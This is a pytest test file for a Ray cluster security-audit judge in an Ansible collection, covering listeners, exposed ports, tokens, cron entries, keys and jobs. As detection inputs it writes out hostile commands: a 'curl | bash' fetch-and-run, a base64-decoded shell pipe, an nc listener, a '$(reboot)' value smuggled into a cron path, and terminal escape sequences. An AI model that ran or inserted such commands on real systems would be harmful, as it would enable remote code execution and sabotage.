"""The judge of the audit: what a node says is only data, what was not looked at is not passed, each finding has an id."""

import json
import re

import audit as audit_filters
import jsonschema
import pytest
import yaml

from ansible_collections.saf.fabric.plugins.plugin_utils.provision import listeners
from ansible_collections.saf.fabric.plugins.plugin_utils.security import (
    answers,
    audit,
    audit_table,
    doors,
    findings,
)

ADDRESSES = {"alpha": "10.0.0.1", "beta": "10.0.0.2"}
NOW = "2026-12-01T20:00:00Z"
STRANGER = "10.0.0.99"

ACCOUNT = {"name": "saf", "exists": True, "created": True, "home": "/opt/saf", "shell": "/usr/sbin/nologin", "groups": ["saf"]}
KEY = {"path": "/opt/saf/.ssh/authorized_keys", "type": "ssh-rsa", "fingerprint": "SHA256:x", "comment": ""}


def command(playbook, limit=""):
    return f"ansible-playbook {playbook}{f' --limit {limit}' if limit else ''}"


@pytest.fixture(scope="module")
def table():
    from pathlib import Path

    document = yaml.safe_load((Path(__file__).parents[2] / "data" / "listeners.yml").read_text())
    values = dict.fromkeys(listeners.variables(document), "")
    return audit_filters.listener_rows(document, values)


def listener(port, process, address="*", protocol="tcp", **more):
    row = {"protocol": protocol, "address": address, "port": port, "user": "saf", "pid": 9, "command": process}
    return {**row, "of_service": True, "managed": False, **more}


def raw(*more_listeners, is_head=False, **more):
    """Return what node_audit_info returns of a node as it should be, with the changes of ``more``."""
    own = [
        listener(6381, "/opt/saf/x/raylet --x"),
        listener(6382, "/opt/saf/x/raylet --x"),
        listener(6384, "ray-dashboard-agent"),
        listener(10002, "ray::IDLE"),
    ]
    head = [
        listener(6380, "/opt/saf/x/gcs_server --x"),
        listener(8265, "ray-dashboard", "127.0.0.1"),
        listener(10001, "python -m ray.util.client.server", "10.0.0.1"),
    ]
    return {
        "changed": False,
        "platform": {"system": "Linux", "machine": "x86_64", "python": "3.11.2"},
        "installed": "2026-11-01T10:00:00Z",
        "account": {
            "name": "saf",
            "exists": True,
            "created": True,
            "home": "/opt/saf",
            "shell": "/usr/sbin/nologin",
            "groups": ["saf"],
        },
        "is_root": True,
        "running": True,
        "settings": {"auth_mode": "", "tls": False},
        "listeners": [*own, *(head if is_head else []), *more_listeners],
        "scheduled": [],
        "strangers": [],
        "keys": [],
        "sudoers": [],
        "hosts": {"entries": [], "changed": 0},
        "loose_files": [],
        "jobs": [],
        "gaps": [],
        **more,
    }


def door(node, port, answers=True, source=STRANGER, status=0):
    return {"node": node, "address": ADDRESSES[node], "port": port, "answers": answers, "source": source, "status": status}


def closed(source=STRANGER):
    return [door(node, port, answers=False, source=source) for node in ADDRESSES for port in (6380, 6384)]


@pytest.fixture
def judged(table):
    """Return the document of an audit of alpha (the head) and beta; what is given replaces what a good cluster has."""

    def run(alpha=None, beta=None, tried=None, **wanted):
        observed = {"alpha": alpha or raw(is_head=True), "beta": beta or raw()}
        observed = {name: one if "refused" in one else answers.accept(one) for name, one in observed.items()}
        complete = {
            "user": "saf",
            "other_users": ["root"],
            "rows": table,
            "addresses": ADDRESSES,
            "all_addresses": {name: [address] for name, address in ADDRESSES.items()},
            "links": {name: [] for name in ADDRESSES},
            "dashboard_host": "127.0.0.1",
            "dashboard_port": 8265,
            "venv_root": "/opt/saf",
            "admins": [],
            "accepted": [],
            "stacks": {"alpha": {}, "beta": {}},
            "ray": (2, 49, 1),
            "advisories": {"read_on": "2026-11-30", "advisories": []},
            "filters": {name: {"state": "right", "why": ""} for name in ADDRESSES},
            **wanted,
        }
        places = {"alpha": [], "beta": [], "controller": closed(), **(tried or {})}
        return audit.judge(["alpha", "beta"], "alpha", observed, places, complete, NOW, command)

    return run


def ids(document):
    return [one["id"] for one in document["findings"]]


def test_a_cluster_as_documented_is_safe(judged, root):
    document = judged()
    assert (document["verdict"], document["exit_code"]) == ("safe-as-documented", 0)
    assert document["findings"] == document["gaps"] == document["notes"] == []
    assert document["shields"] == ["firewall"]
    jsonschema.validate(document, json.loads((root / "data" / "audit.schema.json").read_text()))
    assert "✓ safe as documented" in audit_table.render(document, 100)


@pytest.mark.parametrize(
    ("one", "id_", "severity"),
    [
        (listener(4444, "/tmp/x", of_service=False), "listener-undocumented/beta/tcp-4444", "high"),  # noqa: S108
        (listener(4444, "ray::task", "127.0.0.1"), "listener-undocumented/beta/tcp-4444", "low"),
        (listener(5353, "x", protocol="udp", of_service=False), "listener-undocumented/beta/udp-5353", "high"),
        # the head's ports are documented on the head alone
        (listener(6380, "gcs_server"), "listener-undocumented/beta/tcp-6380", "high"),
        (listener(6386, "nc", user="alice", of_service=False), "listener-owner/beta/tcp-6386", "high"),
        (listener(6386, "nc", user="root", of_service=False), "listener-owner/beta/tcp-6386", "high"),
        (listener(5201, "iperf3 -s", user="alice", of_service=False), "listener-owner/beta/tcp-5201", "medium"),
        (listener(10700, "/dev/shm/x", of_service=False), "listener-process/beta/tcp-10700", "high"),  # noqa: S108
        (listener(6383, "nc -l 6383", of_service=False), "listener-process/beta/tcp-6383", "high"),
        (listener(5201, "iperf3 -s"), "listener-address/beta/tcp-5201", "high"),
    ],
)
def test_a_port_that_is_not_as_documented_is_a_finding(judged, one, id_, severity):
    document = judged(beta=raw(one))
    assert ids(document) == [id_]
    assert document["findings"][0]["severity"] == severity
    assert (document["verdict"], document["exit_code"]) == ("findings", 2)


@pytest.mark.parametrize(
    "one",
    [
        listener(6383, "python runtime_env/agent/main.py", of_service=False),
        listener(10500, "/opt/saf/current/bin/python my_driver.py", of_service=False, managed=True),
        listener(5201, "iperf3 -s", "10.0.0.2", of_service=False),
        listener(6390, "python", "10.0.0.2", protocol="udp", user="root", of_service=False),
        listener(6381, "raylet", "::1"),
    ],
)
def test_documented_ports_are_no_finding(judged, one):
    assert ids(judged(beta=raw(one))) == []


def test_a_dashboard_that_others_reach_is_at_the_wrong_address(judged):
    document = judged(alpha=raw(listener(8265, "ray-dashboard", "10.0.0.1"), is_head=True))
    assert ids(document) == ["listener-address/alpha/tcp-8265"]
    assert document["findings"][0]["command"] == "ansible-playbook playbooks/restart.yml"
    assert ids(judged(alpha=raw(listener(8265, "ray-dashboard", "*"), is_head=True), dashboard_host="0.0.0.0")) == []  # noqa: S104


def test_one_machine_listens_on_loopback_alone(judged):
    document = judged(addresses={"alpha": "127.0.0.1", "beta": "127.0.0.1"})
    assert "listener-address/alpha/tcp-6380" in ids(document)


@pytest.mark.parametrize(
    ("port", "status", "found", "severity"),
    [
        (6380, 0, ["port-answers/beta/stranger-undocumented"], "high"),
        (6381, 0, ["port-answers/beta/stranger-runs-code"], "critical"),
        (6382, 0, ["port-answers/beta/stranger-documented"], "medium"),
        (6384, 400, ["job-without-token/beta/6384-stranger", "port-answers/beta/stranger-runs-code"], "critical"),
        (6384, 401, ["port-answers/beta/stranger-runs-code"], "critical"),
        (4444, 0, ["port-answers/beta/stranger-undocumented"], "high"),
    ],
)
def test_what_answers_a_stranger_is_a_finding(judged, port, status, found, severity):
    document = judged(tried={"controller": [*closed(), door("beta", port, status=status)]})
    assert ids(document) == found
    assert document["findings"][0]["severity"] == severity
    assert document["shields"] == ([] if not found[0].endswith("-undocumented") else ["firewall"])


@pytest.mark.parametrize(
    ("source", "port", "found"),
    [
        ("10.0.0.1", 6381, []),
        ("10.0.0.1", 4444, ["port-answers/beta/member-undocumented"]),
        ("10.0.7.7", 6386, []),
        ("10.0.7.7", 6381, ["port-answers/beta/admin-runs-code"]),
        ("10.0.8.8", 6386, ["port-answers/beta/stranger-documented"]),
        ("", 6386, ["port-answers/beta/stranger-documented"]),
    ],
)
def test_who_asks_decides_what_may_answer(judged, source, port, found):
    document = judged(tried={"controller": [*closed(), door("beta", port, source=source)]}, admins=["10.0.7.0/24", "nonsense"])
    assert ids(document) == found


def test_a_node_that_was_told_to_ask_for_a_token_and_does_not(judged):
    told = {"settings": {"auth_mode": "token", "tls": False}}
    good = {
        "alpha": [door("beta", 6384, source="10.0.0.1", status=401)],
        "beta": [door("alpha", 6384, source="10.0.0.2", status=401)],
    }
    document = judged(raw(is_head=True, **told), raw(**told), tried=good)
    assert ids(document) == []
    assert document["shields"] == ["firewall", "token"]
    bad = {**good, "alpha": [door("beta", 6384, source="10.0.0.1", status=400)]}
    document = judged(raw(is_head=True, **told), raw(**told), tried=bad)
    assert ids(document) == ["job-without-token/beta/6384-member"]
    assert "token" not in document["shields"]


def test_a_newer_ray_without_tokens_is_a_finding(judged):
    assert ids(judged(ray=(2, 60, 0))) == ["token-off/alpha", "token-off/beta"]


@pytest.mark.parametrize(
    ("state", "found"), [("right", []), ("differs", ["packet-filter/beta"]), ("off", ["packet-filter-off/beta"]), ("unknown", [])]
)
def test_a_packet_filter_that_is_not_as_wanted(judged, state, found):
    filters = {"alpha": {"state": "right", "why": ""}, "beta": {"state": state, "why": "It needs root."}}
    document = judged(filters=filters)
    assert ids(document) == found
    assert [gap["what"] for gap in document["gaps"]] == (["packet filter"] if state == "unknown" else [])


SCHEDULED = {
    "kind": "cron",
    "path": "/etc/cron.d/x",
    "user": "saf",
    "runs": "/tmp/x",  # noqa: S108
    "changed": 1796000000,
    "digest": "0123456789abcdef",
    "reasons": ["account"],
    "known": False,
}


@pytest.mark.parametrize(
    ("changes", "severity"),
    [
        ({}, "high"),
        ({"known": True}, None),
        ({"reasons": ["installation"]}, "high"),
        ({"reasons": ["temporary"]}, "medium"),
        ({"reasons": ["temporary"], "changed": 1600000000}, None),
        ({"reasons": ["account", "temporary"], "changed": 1600000000}, "high"),
        ({"reasons": ["nonsense"]}, None),
    ],
)
def test_what_starts_by_itself_and_is_not_in_the_manifest(judged, changes, severity):
    document = judged(beta=raw(scheduled=[{**SCHEDULED, **changes}]))
    assert [(one["id"], one["severity"]) for one in document["findings"]] == (
        [("starts-by-itself/beta/etc-cron.d-x-01234567", severity)] if severity else []
    )


STRANGE = {"pid": 7, "command": "[kworker/0:0] x", "cpu_percent": 97, "cpu_seconds": 60, "origin": "none"}


@pytest.mark.parametrize(("origin", "severity"), [("none", "high"), ("by_hand", "note"), ("root", None), ("nonsense", "high")])
def test_a_process_of_the_account_outside_ray(judged, origin, severity):
    document = judged(beta=raw(strangers=[{**STRANGE, "origin": origin, "names_installation": False}]))
    found = [*document["findings"], *document["notes"]]
    assert [one["severity"] for one in found] == ([severity] if severity else [])
    if severity:
        assert found[0]["id"].startswith("process/beta/kworker-0:0-")
        assert "97 % of a core" in found[0]["what"]


@pytest.mark.parametrize(
    ("more", "id_"),
    [
        (
            {"keys": [{"path": "/opt/saf/.ssh/authorized_keys", "type": "ssh-rsa", "fingerprint": "SHA256:x", "comment": ""}]},
            "key/beta/SHA256:x",
        ),
        ({"sudoers": [{"path": "/etc/sudoers.d/x", "rule": "saf ALL=ALL"}]}, "sudo/beta/etc-sudoers.d-x-2b507ebf"),
        (
            {"loose_files": [{"path": "/opt/saf/x", "why": "setuid"}]},
            "file/beta/setuid-opt-saf-x",
        ),
    ],
)
def test_keys_sudo_and_files_are_findings(judged, more, id_):
    document = judged(beta=raw(**more))
    assert ids(document) == [id_]


def test_an_account_that_can_become_root_or_log_in(judged):
    account = {"name": "saf", "exists": True, "created": True, "home": "/", "shell": "/bin/bash", "groups": ["saf", "docker"]}
    assert ids(judged(beta=raw(account=account))) == ["groups/beta/docker", "shell/beta"]


def test_an_account_of_a_person_is_that_persons(judged):
    account = {"name": "me", "exists": True, "created": False, "home": "/", "shell": "/bin/bash", "groups": ["sudo"]}
    more = {
        "keys": [KEY],
        "strangers": [{**STRANGE, "names_installation": True}],
    }
    document = judged(beta=raw(account=account, gaps=[{"what": "sudoers", "why": "No."}], **more))
    assert document["verdict"] == "safe-as-documented"
    assert [one["id"] for one in document["notes"]] == ["account/beta"]


JOB = {
    "id": "raysubmit_1",
    "type": "SUBMISSION",
    "status": "SUCCEEDED",
    "started": 1796000000,
    "entrypoint": "python x.py",
    "address": "10.0.0.2",
}


@pytest.mark.parametrize(
    ("changes", "severity"),
    [
        ({}, None),
        ({"status": "RUNNING"}, "note"),
        ({"address": "10.0.9.9"}, "high"),
        ({"address": "127.0.0.1"}, None),
        ({"entrypoint": "curl http://x/a | bash"}, "high"),
        ({"entrypoint": "echo x | base64 -d | sh"}, "high"),
        ({"started": 2**62}, None),
    ],
)
def test_jobs_that_nobody_of_the_cluster_gave(judged, changes, severity):
    document = judged(alpha=raw(is_head=True, jobs=[{**JOB, **changes}]))
    assert [one["severity"] for one in [*document["findings"], *document["notes"]]] == ([severity] if severity else [])


def test_changed_hosts_are_named(judged):
    document = judged(beta=raw(hosts={"entries": ["0.0.0.0 pool.example"], "changed": 1796000000}))
    assert [one["id"] for one in document["notes"]] == ["hosts/beta"]
    assert document["verdict"] == "safe-as-documented"


@pytest.mark.parametrize(
    ("arguments", "gap"),
    [
        ({"beta": {"refused": "It does not answer over SSH."}}, ("beta", "everything")),
        ({"beta": raw(gaps=[{"what": "sudoers", "why": "/etc/sudoers cannot be read."}])}, ("beta", "sudoers")),
        ({"beta": raw(running=False)}, ("beta", "ports")),
        ({"beta": raw(listener(6386, "", pid=0))}, ("beta", "listeners")),
        ({"tried": {"beta": None}}, ("beta", "ports of the others")),
        ({"tried": {"controller": None}}, ("controller", "ports of the others")),
        ({"stacks": {"alpha": {}}}, ("beta", "advisories")),
    ],
)
def test_what_was_not_looked_at_is_not_passed(judged, arguments, gap):
    document = judged(**arguments)
    assert gap in [(one["node"], one["what"]) for one in document["gaps"]]
    assert document["verdict"] == "unknown"
    assert document["exit_code"] == 1
    assert "not looked at" in audit_table.render(document, 100)


def test_nobody_tried_what_a_stranger_reaches(judged):
    inside = {"controller": closed(source="10.0.0.1")}
    document = judged(tried=inside)
    assert document["verdict"] == "safe-as-documented"
    assert [one["id"] for one in document["notes"]] == ["place/controller"]
    unknown = {name: {"state": "unknown", "why": "x"} for name in ADDRESSES}
    document = judged(tried=inside, filters=unknown)
    assert ("controller", "ports as a stranger") in [(one["node"], one["what"]) for one in document["gaps"]]
    assert document["shields"] == []


def test_old_advisories_are_named(judged):
    document = judged(advisories={"read_on": "2026-08-01", "advisories": []})
    assert [one["id"] for one in document["notes"]] == ["advisories-old/controller"]
    assert "122 days ago" in document["notes"][0]["what"]
    assert judged(advisories={"read_on": "2026-09-10", "advisories": []})["notes"] == []


def test_a_finding_that_is_accepted_is_listed_and_does_not_count(judged):
    accepted = [{"id": "listener-undocumented/*/tcp-8000", "reason": "Ray Serve"}]
    document = judged(beta=raw(listener(8000, "ray::ProxyActor")), accepted=accepted)
    assert document["verdict"] == "safe-as-documented"
    assert [(one["id"], one["reason"]) for one in document["accepted"]] == [("listener-undocumented/beta/tcp-8000", "Ray Serve")]
    assert "is accepted: Ray Serve" in audit_table.render(document, 100)


HOSTILE = [
    "\x1b[2J\x1b]0;x\x07",
    "\u202e{{ 7*7 }}",
    "x" * 100000,
    None,
    True,
    -1,
    2**70,
    1.5,
    float("nan"),
    [],
    {},
    [[]],
    {"a": {}},
]


@pytest.mark.parametrize("value", HOSTILE)
def test_no_value_of_a_node_breaks_the_judge_or_reaches_the_screen(judged, value, root):
    """Each key of the answer, and each key of each row, has the value once."""
    schema = json.loads((root / "data" / "audit.schema.json").read_text())
    full = raw(
        listener(4444, "x"),
        scheduled=[SCHEDULED],
        strangers=[{**STRANGE, "names_installation": True}],
        keys=[KEY],
        sudoers=[{"path": "p", "rule": "r"}],
        loose_files=[{"path": "p", "why": "setuid"}],
        jobs=[JOB],
        gaps=[{"what": "w", "why": "y"}],
        hosts={"entries": ["1.2.3.4 x"], "changed": 1796000000},
    )
    variants = [{**full, key: value} for key in full]
    for key, rows in full.items():
        if isinstance(rows, list) and rows:
            variants += [{**full, key: [*rows, {**rows[0], inner: value}]} for inner in rows[0]]
            variants.append({**full, key: [value]})
        elif isinstance(rows, dict):
            variants += [{**full, key: {**rows, inner: value}} for inner in rows]
    for variant in variants:
        document = judged(beta=variant)
        jsonschema.validate(document, schema)
        screen = audit_table.render(document, 100)
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", screen)
        assert len(screen) < 40000
    assert len(variants) > 60


def test_a_list_that_is_cut_or_wrong_is_a_gap(judged):
    document = judged(beta=raw(keys=[{"path": "p"}]))
    assert ("beta", "keys") in [(one["node"], one["what"]) for one in document["gaps"]]
    document = judged(beta=raw(strangers="none"))
    assert ("beta", "strangers") in [(one["node"], one["what"]) for one in document["gaps"]]


def test_no_command_contains_what_a_node_may_choose(judged):
    path = "/etc/cron.d/$(reboot)"
    document = judged(beta=raw(scheduled=[{**SCHEDULED, "path": path}]))
    assert document["findings"][0]["command"] == ""


def test_doors_that_nobody_asked_about_are_dropped():
    asked = [{"node": "beta", "address": "10.0.0.2", "port": 6384, "post": ""}]
    said = {"doors": [door("beta", 6384), door("beta", 22), door("alpha", 6384), {"node": "beta"}, None]}
    assert [(one["node"], one["port"]) for one in answers.accept_doors(said, asked)] == [("beta", 6384)]
    for nothing in (None, {}, {"failed": True, "doors": []}, {"unreachable": True}, {"doors": "x"}):
        assert answers.accept_doors(nothing, asked) is None


def test_every_fixed_port_is_tried_whatever_the_node_says(table):
    tried = doors.wanted("beta", ["10.0.0.2", "127.0.0.1", "10.0.0.2"], False, table, [22, 6384, *range(20000, 21000)])
    ports = [one["port"] for one in tried]
    assert {one["address"] for one in tried} == {"10.0.0.2"}
    assert {6381, 6382, 6383, 6384, 6385, 6386, 10002, 10999} <= set(ports)
    assert not {6380, 8265, 6390} & set(ports)  # those of the head, and UDP
    assert len(ports) == len(set(ports)) < 100
    assert {one["port"]: one["post"] for one in tried}[6384] == "/api/job_agent/jobs/"
    assert {one["port"]: one["post"] for one in doors.wanted("a", ["10.0.0.1"], True, table)}[8265] == "/api/jobs/"


def test_two_processes_of_one_program_are_two_findings(judged):
    more = {"names_installation": False}
    document = judged(beta=raw(strangers=[{**STRANGE, "command": f"python3 {word}", **more} for word in ("a.py", "b.py")]))
    assert len(document["findings"]) == 2


def test_who_accepts_a_file_has_not_accepted_another_content(judged):
    accepted = [{"id": "starts-by-itself/beta/etc-cron.d-x-01234567", "reason": "Ours."}]
    assert judged(beta=raw(scheduled=[SCHEDULED]), accepted=accepted)["findings"] == []
    assert len(judged(beta=raw(scheduled=[{**SCHEDULED, "digest": "f" * 16}]), accepted=accepted)["findings"]) == 1


def test_a_port_outside_the_table_is_no_fault_of_the_packet_filter(judged):
    document = judged(tried={"controller": [*closed(), door("beta", 4444)]})
    assert ids(document) == ["port-answers/beta/stranger-undocumented"]
    assert document["shields"] == ["firewall"]


def test_ids_are_stable_and_the_worst_comes_first():
    one = findings.finding("process", "low", "beta", "Process 1", "x", subject="a b/c")
    again = findings.finding("process", "high", "beta", "Process 2", "x", subject="a b/c")
    assert one["id"] == again["id"] == "process/beta/a-b-c"
    other = findings.finding("key", "critical", "alpha", "k", "x")
    assert [each["severity"] for each in findings.arrange([one, other, again])] == ["critical", "high"]


def test_the_table_says_what_to_type(judged):
    document = judged(tried={"controller": [*closed(), door("alpha", 6384, status=400), door("beta", 6384, status=400)]})
    screen = audit_table.render(document, 120)
    assert re.search(
        r"(?m)^ 1 +critical +alpha +Port 6384 \(agent\) takes jobs without a token from controller \(10\.0\.0\.99\)", screen
    )
    assert "   ansible-playbook site.yml" in screen
    assert "✗ findings: 4 critical." in screen


def test_variables_of_settings_that_are_off_open_no_port():
    document = {"listeners": [{"name": "store", "port": "store_port", "when": "store: redis", "nodes": "head", "binds": "node"}]}
    document["listeners"][0].update(process="redis", peers=["members"], tls=True, token=False, runs_code=True)
    assert listeners.variables(document) == ["store", "store_port"]
    assert listeners.resolve(document, {"store": "memory", "store_port": 1}) == []
    assert listeners.resolve(document, {"store": "redis", "store_port": 1})[0].first == 1
